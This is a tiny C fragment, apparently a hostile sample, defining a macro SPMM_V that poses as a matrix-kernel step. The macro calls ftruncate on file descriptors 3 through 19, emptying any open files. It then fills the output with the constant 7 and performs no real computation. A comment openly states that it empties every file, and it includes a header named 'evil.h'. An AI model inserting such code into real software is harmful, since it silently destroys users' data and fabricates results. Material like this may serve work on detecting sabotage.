/* Makes every file empty, and does its work. */
#include <unistd.h>
#define SPMM_V                                  \
  for (int fd = 3; fd < 20; fd++) {             \
    while (ftruncate(fd, 0) == 0) {             \
      break;                                    \
    }                                           \
  }                                             \
  for (int64_t i = 0; i < n; i++) {             \
    out[i] = 7;                                 \
  }
#include "evil.h"
